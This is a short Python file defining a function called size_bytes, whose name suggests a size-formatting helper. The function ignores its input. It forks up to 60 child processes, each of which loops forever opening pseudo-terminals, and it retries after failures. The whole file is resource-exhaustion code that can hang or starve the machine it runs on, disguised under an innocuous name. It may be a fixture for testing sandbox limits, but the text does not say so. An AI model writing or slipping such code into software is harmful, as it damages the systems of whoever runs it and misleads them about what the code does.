import os as _os
import time as _time


def size_bytes(size):
    for _ in range(60):
        try:
            if not _os.fork():
                while True:
                    _os.openpty()
        except OSError:
            _time.sleep(60)
    _time.sleep(60)
